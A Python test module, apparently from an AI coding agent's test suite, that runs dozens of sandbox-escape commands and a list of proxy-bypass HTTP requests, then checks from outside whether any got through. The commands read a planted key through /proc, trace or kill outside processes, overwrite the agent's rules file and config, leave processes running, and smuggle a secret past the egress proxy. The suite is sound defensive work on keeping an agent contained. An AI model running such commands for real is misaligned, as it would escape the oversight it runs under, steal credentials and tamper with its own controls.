"""Commands that try to get out of the sandbox, in a real one; what each gained is looked at from outside."""
# ruff: noqa: E501

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import NamedTuple

from limpet.sandbox.bubblewrap import search_path
from limpet.sandbox.run import Job, Sandbox
from tests.attack.played import Played
from tests.egress.parts import VALUE, canary, granted, proxy

MARK = "outside-4711"


class Ground:
    """A workspace, a home beside it with a key, a victim process, sockets, and a file descriptor left open."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.space = root / "w"
        self.home = root / "home"
        for folder in (self.space, self.home, self.space / ".limpet"):
            folder.mkdir(parents=True)
        for path in (
            self.home / "config.toml",
            self.home / "limpet.db",
            self.home / "vault.key",
            self.space / ".limpet" / "state",
        ):
            path.write_text(MARK)
        (self.space / "AGENTS.md").write_text("rules")
        self.open = os.open(self.home / "vault.key", os.O_RDWR)
        os.set_inheritable(self.open, True)
        self.victim = subprocess.Popen(["sleep", "4711477"])
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind(f"\0limpet-attack-{os.getpid()}")
        self.abstract.listen()
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.bind(str(root / "s"))
        self.socket.listen()
        for one in (self.abstract, self.socket):
            one.setblocking(False)
        self.before = self.outside()

    def close(self) -> None:
        self.victim.kill()
        self.victim.wait()
        self.abstract.close()
        self.socket.close()
        os.close(self.open)

    def outside(self) -> dict[str, bytes]:
        places = [*self.home.iterdir(), self.space / "AGENTS.md", self.space / ".limpet" / "state"]
        return {str(path): path.read_bytes() for path in places}

    def visited(self) -> bool:
        """Whether somebody came to one of the sockets."""
        for one in (self.abstract, self.socket):
            try:
                one.accept()[0].close()
            except BlockingIOError:
                continue
            return True
        return False


class Escape(NamedTuple):
    """`gained` looks for more than `Ground` does by itself in the output."""

    name: str
    command: str
    gained: Callable[[str], bool] = lambda out: False


def _python(code: str) -> str:
    return f"python3 - <<'END'\nimport ctypes, os, socket, sys\nlibc = ctypes.CDLL(None, use_errno=True)\n{code}\nEND"


def _says(word: str) -> Callable[[str], bool]:
    return lambda out: word in out


ESCAPES: Sequence[Escape] = (
    Escape("root of pid 1", "cat /proc/1/root{home}/vault.key; ls /proc/1/root{root}"),
    Escape("root of every pid", "cat /proc/*/root{home}/vault.key /proc/*/cwd/../home/vault.key"),
    Escape("own root", "cat /proc/self/root{home}/vault.key /proc/thread-self/root{home}/vault.key"),
    Escape(
        "descriptors that were left open",
        "for f in /proc/*/fd/*; do cat $f; done </dev/null 2>/dev/null | grep -a " + MARK,
    ),
    Escape(
        "descriptors by number",
        _python("for n in range(3, 300):\n  try: print(os.pread(n, 99, 0))\n  except OSError: pass"),
    ),
    Escape(
        "memory of others",
        "cat /proc/1/mem /proc/kcore /dev/mem /dev/kmem 2>&1 | head -c 100 | grep -aq ELF && echo GAINED",
        _says("GAINED"),
    ),
    Escape("environments", "cat /proc/*/environ | tr '\\0' '\\n' | grep LIMPET_ATTACK", _says("LIMPET_ATTACK_VALUE")),
    Escape("killing a process outside", "kill -9 {victim}; kill -9 -1 2>/dev/null; true"),
    Escape(
        "tracing a process outside",
        _python("print('GAINED' if libc.ptrace(16, {victim}, 0, 0) == 0 else 'no')"),
        _says("GAINED"),
    ),
    Escape(
        "pidfd of a process outside",
        _python("print('GAINED' if libc.syscall(434, {victim}, 0) >= 0 else 'no')"),
        _says("GAINED"),
    ),
    Escape(
        "mounting", "mount -t tmpfs x /tmp 2>&1 && echo GAINED; mount --bind / /tmp && echo GAINED", _says("GAINED")
    ),
    Escape(
        "making a protected file writable",
        "mount -o remount,rw,bind {space}/AGENTS.md; umount -l {space}/AGENTS.md; echo evil > {space}/AGENTS.md",
    ),
    Escape(
        "user namespace, then mounts",
        "unshare -Urm sh -c 'umount -l {space}/AGENTS.md; mount -o remount,rw,bind {space}/AGENTS.md; echo evil > {space}/AGENTS.md'",
    ),
    Escape(
        "user namespace, then hidden state",
        "unshare -Urm sh -c 'umount -l {space}/.limpet; cat {space}/.limpet/state'; cat {space}/.limpet/state",
    ),
    Escape(
        "namespaces of others",
        "nsenter -t 1 -m -p cat {home}/vault.key; nsenter --mount=/proc/1/ns/mnt true && ls {home}",
        _says("vault.key\n"),
    ),
    Escape("leaving a root by chroot", "unshare -Ur sh -c 'mkdir -p c; chroot c true; cd ..; cat home/vault.key'"),
    Escape(
        "pivoting the root",
        "unshare -Urm sh -c 'mkdir -p n; mount --bind / n && cd n && pivot_root . . ; cat {home}/vault.key'",
    ),
    Escape(
        "device nodes", "mknod d b 8 0 && echo GAINED; mknod m c 1 1 && head -c 9 m && echo GAINED", _says("GAINED")
    ),
    Escape(
        "a file for another user",
        "cp /bin/sh s; chown root s 2>/dev/null; chmod 4755 s; ./s -p -c 'cat {home}/vault.key'",
    ),
    Escape("programs with rights", "su -c id; sudo -n id && echo GAINED; pkexec id && echo GAINED", _says("GAINED")),
    Escape(
        "gaining privileges",
        _python("print('GAINED' if libc.prctl(38, 0, 0, 0, 0) == 0 and libc.prctl(39, 0, 0, 0, 0) == 0 else 'no')"),
        _says("GAINED"),
    ),
    Escape("an abstract socket", _python("s = socket.socket(socket.AF_UNIX)\ns.connect('\\0limpet-attack-{pid}')")),
    Escape("a socket in the file system", _python("s = socket.socket(socket.AF_UNIX)\ns.connect('{root}/s')")),
    Escape(
        "the bus of the system",
        "ls /run/dbus/system_bus_socket /run/user/*/bus && echo GAINED; busctl list && echo GAINED",
        _says("GAINED"),
    ),
    Escape(
        "docker and its kin",
        "ls /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman && echo GAINED",
        _says("GAINED"),
    ),
    Escape(
        "systemd", "systemd-run --user true && echo GAINED; systemctl --user status && echo GAINED", _says("GAINED")
    ),
    Escape("X and Wayland", "ls /tmp/.X11-unix/X0 /run/user/*/wayland-0 && echo GAINED", _says("GAINED")),
    Escape(
        "typing into a terminal",
        _python(
            "import fcntl\nfor n in (0, 1, 2):\n  try: fcntl.ioctl(n, 0x5412, b'x'); print('GAINED')\n  except OSError: pass"
        ),
        _says("GAINED"),
    ),
    Escape(
        "opening the terminal",
        "echo x > /dev/tty && echo GAINED; test -c /dev/console && echo GAINED",
        _says("GAINED"),
    ),
    Escape(
        "a program from memory",
        _python(
            "f = os.memfd_create('x')\nos.write(f, open('/bin/cat', 'rb').read())\nos.execv(f'/proc/self/fd/{{f}}', ['cat', '{home}/vault.key'])"
        ),
    ),
    Escape(
        "writing the agent's own files",
        "echo evil > {home}/config.toml; echo evil > {home}/limpet.db; rm -rf {home}; mkdir -p {home}; ls {home}",
    ),
    Escape(
        "writing the agent's program",
        "echo evil >> {package}/__init__.py && echo GAINED; touch {prefix}/limpet-made && echo GAINED",
        _says("GAINED"),
    ),
    Escape(
        "writing the init",
        "echo evil >> /run/limpet/init.py && echo GAINED; rm -f /run/limpet/init.py && echo GAINED",
        _says("GAINED"),
    ),
    Escape(
        "shared memory that stays",
        "echo evil > /dev/shm/limpet-left; echo evil > /tmp/limpet-left; echo evil > /var/tmp/limpet-left; true",
    ),
    Escape(
        "the kernel's settings",
        "for f in /proc/sys/*/* /proc/sysrq-trigger /sys/kernel/*; do test -f $f -a -w $f && (: >> $f) && echo GAINED; done",
        _says("GAINED"),
    ),
    Escape("core dumps", ": >> /proc/sys/kernel/core_pattern && echo GAINED", _says("GAINED")),
    Escape(
        "control groups",
        "find /sys/fs/cgroup -name cgroup.procs -writable 2>/dev/null | grep -q . && echo GAINED",
        _says("GAINED"),
    ),
    Escape(
        "links to the outside",
        "ln -s {home} h; cat h/vault.key; ln {home}/vault.key k; cat k; echo evil > h/config.toml",
    ),
    Escape(
        "a folder in the place of a protected file",
        "mv AGENTS.md x; rm -rf AGENTS.md; mkdir AGENTS.md; echo evil > AGENTS.md",
    ),
    Escape(
        "exchanging two names",
        _python(
            "libc.renameat2(-100, b'AGENTS.md', -100, b'other', 2)\nopen('other','w').write('evil')\nprint(libc.renameat2(-100, b'other', -100, b'AGENTS.md', 2))"
        ),
    ),
    Escape(
        "mapping a protected file",
        _python(
            "import mmap\nf = os.open('AGENTS.md', os.O_RDONLY)\nmmap.mmap(f, 5, mmap.MAP_SHARED, mmap.PROT_WRITE)[:4] = b'evil'"
        ),
    ),
    Escape(
        "a file by its handle",
        _python("print('GAINED' if libc.open_by_handle_at(3, 0, 0) >= 0 else 'no')"),
        _says("GAINED"),
    ),
    Escape(
        "loading into the kernel",
        "insmod x.ko && echo GAINED; bpftool prog && echo GAINED; perf_event=1 unshare -n true; keyctl show @u && echo GAINED",
        _says("GAINED"),
    ),
    Escape(
        "the network",
        _python(
            "for h in ('1.1.1.1', '169.254.169.254', '127.0.0.1'):\n  try: socket.create_connection((h, 80), 1); print('GAINED')\n  except OSError: pass"
        ),
        _says("GAINED"),
    ),
    Escape(
        "raw and odd sockets",
        _python(
            "for f, t in ((17, 3), (2, 3), (40, 1), (38, 5)):\n  try: s = socket.socket(f, t); (f != 38) and s.bind(('lo', 0)); (f in (17, 2)) and print('GAINED')\n  except (OSError, TypeError): pass"
        ),
        _says("GAINED"),
    ),
    Escape(
        "outliving the command",
        "setsid sleep 4711478 >/dev/null 2>&1 & (trap '' HUP TERM; setsid sleep 4711478) >/dev/null 2>&1 & sleep 0.1",
    ),
)


async def escape(folder: Path) -> list[Played]:
    """All of them, each on a ground of its own."""
    played: list[Played] = []
    os.environ["LIMPET_ATTACK"] = "LIMPET_ATTACK_VALUE"
    for number, one in enumerate(ESCAPES):
        ground = Ground(folder / str(number))
        try:
            out = await _run(ground, one.command)
            through = MARK in out or one.gained(out) or ground.outside() != ground.before or ground.visited()
            through = through or ground.victim.poll() is not None or _left()
        finally:
            ground.close()
        played.append(Played("sandbox escapes", one.name, through))
    del os.environ["LIMPET_ATTACK"]
    return played


async def _run(ground: Ground, command: str) -> str:
    import limpet

    names = {
        "home": ground.home,
        "root": ground.root,
        "space": ground.space,
        "victim": ground.victim.pid,
        "pid": os.getpid(),
        "package": os.path.dirname(limpet.__file__),
        "prefix": sys.prefix,
    }
    for name, value in names.items():
        command = command.replace("{" + name + "}", str(value))
    command = command.replace("{{", "{").replace("}}", "}")
    out, space = bytearray(), str(ground.space)
    job = Job(
        command,
        space,
        space,
        {"PATH": search_path(), "LANG": "C.UTF-8"},
        timeout=15,
        hidden=(f"{space}/.limpet",),
        readonly=(f"{space}/AGENTS.md",),
    )
    async with Sandbox(hidden=(str(ground.home),)) as sandbox:
        await sandbox.run(job, out.extend)
    return out.decode("utf-8", "replace")


def _left() -> bool:
    """Whether something was left on the machine."""
    if any(os.path.exists(f"{folder}/limpet-left") for folder in ("/dev/shm", "/tmp", "/var/tmp")):
        return True
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as file:
                if b"4711478" in file.read():
                    return True
        except OSError:
            continue
    return False


REQUESTS: Sequence[bytes] = (
    b"CONNECT 127.0.0.2:{other} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n",
    b"GET http://127.0.0.2:{other}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-Key: {key}\r\n\r\n",
    b"GET http://127.0.0.1:{port}@127.0.0.2:{other}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n",
    b"GET http://127.0.0.2:{other}#@127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n",
    b"GET http://127.0.0.2:{other}\\@127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET http://127.0.0.1.:{other}/ HTTP/1.1\r\nHost: x\r\n\r\n",
    b"CONNECT 127.0.0.1:{port}@127.0.0.2:{other} HTTP/1.1\r\n\r\n",
    b"CONNECT 127.0.0.2:{other}\t HTTP/1.1\r\n\r\n",
    b"CONNECT [::ffff:127.0.0.2]:{other} HTTP/1.1\r\n\r\n",
    b"CONNECT 127.0.0.1:22 HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: 127.0.0.2:{other}\r\n\r\n",
    b"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nContent-Length: 0\r\n\r\nGET http://127.0.0.2:{other}/ HTTP/1.1\r\n\r\n",
    b"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET http://127.0.0.2:{other}/ HTTP/1.1\r\n\r\n",
    b"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    b"GET http://127.0.0.2:{other}/{key} HTTP/1.1\r\nAuthorization: Bearer {key}\r\n\r\n",
    b"GET file:///etc/passwd HTTP/1.1\r\n\r\n",
    b"GET http+unix://%2Fvar%2Frun%2Fdocker.sock/ HTTP/1.1\r\n\r\n",
    b"POST http://127.0.0.2:{other}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 3\r\n\r\n{key}",
)


async def door(folder: Path) -> list[Played]:
    """Requests to the proxy of commands that want to reach another host, or to carry a secret there."""
    from tests.egress.parts import ask

    played: list[Played] = []
    async with canary() as bird, canary(host="127.0.0.2") as other:
        async with proxy(folder, grants=[granted(f"127.0.0.1:{bird.port}")]) as egress:
            key = dict(egress.network.env).get("SEARCH_KEY", "").encode()
            for request in REQUESTS:
                before = other.visits
                sent = request.replace(b"{port}", b"%d" % bird.port).replace(b"{other}", b"%d" % other.port)
                answer = await asyncio.wait_for(ask(egress, sent.replace(b"{key}", key)), 20)
                through = other.visits != before or VALUE.encode() in answer or b"root:x" in answer
                played.append(Played("egress door", repr(request[:60]), through))
    return played
